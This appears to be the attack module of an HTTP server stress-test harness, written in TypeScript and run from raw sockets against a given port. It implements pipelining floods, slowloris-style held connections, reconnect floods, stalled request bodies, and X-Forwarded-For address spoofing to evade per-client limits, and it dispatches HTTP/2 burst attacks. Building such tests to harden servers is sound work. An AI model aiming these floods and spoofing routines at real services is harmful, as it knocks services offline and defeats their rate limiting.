/** The attacks, played from raw sockets in a process of their own. Each is written as its author would: it obeys backpressure, and comes again when it is thrown out. */
import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { obey } from './child.ts'
import { continueRace } from './continue-race.ts'
import { forgedTokens } from './forged-tokens.ts'
import { http2Burst, streamsAtOnce, tinyFrames } from './http2.ts'
import type { AttackOrder, AttackOutcome } from './orders.ts'
import { openSocket } from './sockets.ts'

const PIPELINE_BYTES = 65_536
const REOPEN_MS = 50

/** Requests without end on some connections. */
async function pipelines(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections, deaf = false } = order
  const block = Buffer.from(head.repeat(Math.ceil(PIPELINE_BYTES / head.length)))
  const count = { MB: 0, answers: 0, connections: 0 }
  let isOver = false
  const begin = (): void => {
    if (isOver) return
    count.connections += 1
    const socket = openSocket(port, deaf, order)
    const pump = (): void => {
      if (isOver) return void socket.destroy()
      socket.write(block, (error) => {
        if (error) return
        count.MB += block.length / 1e6
        pump()
      })
    }
    socket.on('connect', pump)
    socket.on('data', (data: Buffer) => (count.answers += occurrences(data)))
    if (!deaf) socket.on('end', () => socket.destroy())
    socket.on('close', () => setImmediate(begin))
  }
  for (let i = 0; i < connections; i++) begin()
  await sleep(ms)
  isOver = true
  return { ...count, MB: Math.round(count.MB) }
}

/** Requests that begin well and do not stay so: head, a wait, then the rest. */
async function brokenBodies(order: AttackOrder): Promise<AttackOutcome> {
  const { port, head, rest, connections, times = 0, ms } = order
  const outcome: Record<string, number> = {}
  const deadline = Date.now() + ms
  let left = times
  const one = async (): Promise<string> => {
    const socket = openSocket(port)
    let answer = ''
    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
    socket.on('data', (data) => {
      answer += data.toString('latin1')
      if (answer.startsWith('HTTP/1.1 1')) answer = ''
      else setTimeout(() => socket.destroy(), REOPEN_MS)
    })
    socket.write(head)
    for (let i = 0; i < (rest?.repeat ?? 0); i++) {
      await sleep(rest?.afterMs ?? 0)
      if (socket.writable) socket.write(rest?.text ?? '')
    }
    await Promise.race([closed, sleep(Math.max(deadline - Date.now(), 0))])
    socket.destroy()
    return answer === '' ? 'closed' : answer.slice(9, 12)
  }
  const lane = async (): Promise<void> => {
    while (left > 0 && Date.now() < deadline) {
      left -= 1
      const status = await one()
      outcome[status] = (outcome[status] ?? 0) + 1
    }
  }
  await Promise.all(Array.from({ length: connections }, lane))
  return outcome
}

/** Connections that say what `head` is and nothing more. Who listens notices that he is thrown out, and comes again. */
async function hold(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, heads = [head], connections, deaf = false } = order
  let turn = 0
  const count = { held: 0, 'thrown out': 0 }
  let isOver = false
  const sockets = new Set<Socket>()
  const begin = (): void => {
    if (isOver) return
    const socket = openSocket(port, false, order)
    sockets.add(socket)
    if (deaf) socket.pause()
    else socket.resume()
    const said = heads[turn++ % heads.length] ?? ''
    if (said !== '') socket.write(said)
    socket.once('end', () => socket.destroy())
    socket.once('close', () => {
      sockets.delete(socket)
      if (!isOver) count['thrown out'] += 1
      setTimeout(begin, REOPEN_MS)
    })
  }
  for (let i = 0; i < connections; i++) begin()
  await sleep(ms)
  isOver = true
  count.held = sockets.size
  for (const socket of sockets) socket.destroy()
  return count
}

/** Connections that say what `head` is until they are ended, and come again at once. */
async function reconnects(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections } = order
  const count = { connections: 0 }
  let isOver = false
  const begin = (): void => {
    if (isOver) return
    count.connections += 1
    const socket = openSocket(port, false, order).resume()
    socket.write(head, 'latin1')
    socket.once('end', () => socket.destroy())
    socket.once('close', () => setImmediate(begin))
  }
  for (let i = 0; i < connections; i++) begin()
  await sleep(ms)
  isOver = true
  return count
}

/** Requests at a steady pace, each connection at its own. */
async function paced(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections, everyMs = 1_000 } = order
  const count = { sent: 0, answers: 0 }
  const endMs = performance.now() + ms
  const lane = async (): Promise<void> => {
    let socket: Socket | undefined
    for (let dueMs = performance.now(); dueMs < endMs; dueMs += everyMs) {
      await sleep(Math.max(0, dueMs - performance.now()))
      if (socket === undefined || socket.destroyed) {
        socket = openSocket(port, false, order)
        socket.on('data', (data: Buffer) => (count.answers += occurrences(data)))
      }
      count.sent += 1
      socket.write(head)
    }
    socket?.destroy()
  }
  await Promise.all(Array.from({ length: connections }, lane))
  return count
}

/** Each caller asks for what only it asks for, again and again, and looks at what it gets. `head` has NAME where that goes. */
async function echoes({ port, ms, head, connections }: AttackOrder): Promise<AttackOutcome> {
  const count = { asked: 0, wrong: 0, 'last wrong ms': 0 }
  const deadline = Date.now() + ms
  let surplusAtMs = 0
  const wrongAtMs: number[] = []
  const call = (caller: number) =>
    new Promise<void>((resolve) => {
      const socket = openSocket(port)
      let name = ''
      let text = ''
      const ask = (): void => {
        if (Date.now() >= deadline) return void socket.destroy()
        name = `/v1/echo/${caller}-${count.asked++}`
        text = ''
        socket.write(head.replace('NAME', name))
      }
      socket.on('data', (data: Buffer) => {
        text += data.toString('latin1')
        const bodyAt = text.indexOf('\r\n\r\n') + 4
        const bytes = Number(/\ncontent-length: (\d+)/i.exec(text)?.[1] ?? NaN)
        if (bodyAt < 4 || text.length < bodyAt + bytes) return
        const [said, sentAtMs = 0] = text.slice(bodyAt).split(' ')
        surplusAtMs = Number(sentAtMs) || surplusAtMs
        if (text.startsWith('HTTP/1.1 200') && said !== name) wrongAtMs.push(Date.now())
        ask()
      })
      socket.once('connect', ask)
      socket.once('end', () => socket.destroy())
      socket.once('close', resolve)
    })
  const lane = async (caller: number): Promise<void> => {
    while (Date.now() < deadline) await call(caller)
  }
  await Promise.all(Array.from({ length: connections }, (_, caller) => lane(caller)))
  const lastMs = (wrongAtMs.at(-1) ?? surplusAtMs) - surplusAtMs
  return { ...count, wrong: wrongAtMs.length, 'last wrong ms': lastMs }
}

/** Each request names another client address, as through a trusted proxy; answers are read. */
async function addresses(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections, times = 0 } = order
  const batch = 50
  let next = 0
  let answers = 0
  const deadline = Date.now() + ms
  const lane = async (): Promise<void> => {
    while (next < times && Date.now() < deadline) {
      const from = next
      next += batch
      let due = from
      const last = from + batch
      while (due < last && Date.now() < deadline) {
        const answered = await volley(port, head, due, last)
        answers += answered
        due += Math.max(answered, 1)
      }
    }
  }
  await Promise.all(Array.from({ length: connections }, lane))
  return { addresses: Math.min(next, times), answers }
}

/** Sends requests of the addresses `from` to `to` on one connection; how many were answered before it ended. */
function volley(port: number, head: string, from: number, to: number): Promise<number> {
  return new Promise((resolve) => {
    let answered = 0
    let text = ''
    for (let n = from; n < to; n++) {
      text += `${head}X-Forwarded-For: 10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}\r\n\r\n`
    }
    const socket = openSocket(port)
    socket.on('data', (data: Buffer) => {
      answered += occurrences(data)
      if (answered >= to - from) socket.destroy()
    })
    socket.on('end', () => socket.destroy())
    socket.once('close', () => resolve(answered))
    socket.write(text)
  })
}

/** Heads of answers that begin in these bytes; one cut by the edge of a packet is missed. */
function occurrences(data: Buffer): number {
  let count = 0
  for (let at = data.indexOf('HTTP/1.1 '); at >= 0; at = data.indexOf('HTTP/1.1 ', at + 1))
    count += 1
  return count
}

const attacks = {
  pipelines,
  brokenBodies,
  hold,
  reconnects,
  paced,
  addresses,
  continueRace,
  forgedTokens,
  echoes,
  tinyFrames: (order: AttackOrder) => http2Burst(order, tinyFrames(order)),
  streamsAtOnce: (order: AttackOrder) => http2Burst(order, streamsAtOnce(order)),
} satisfies Record<AttackOrder['attack'], unknown>

obey<'attack.ts'>((order) => attacks[order.attack](order))
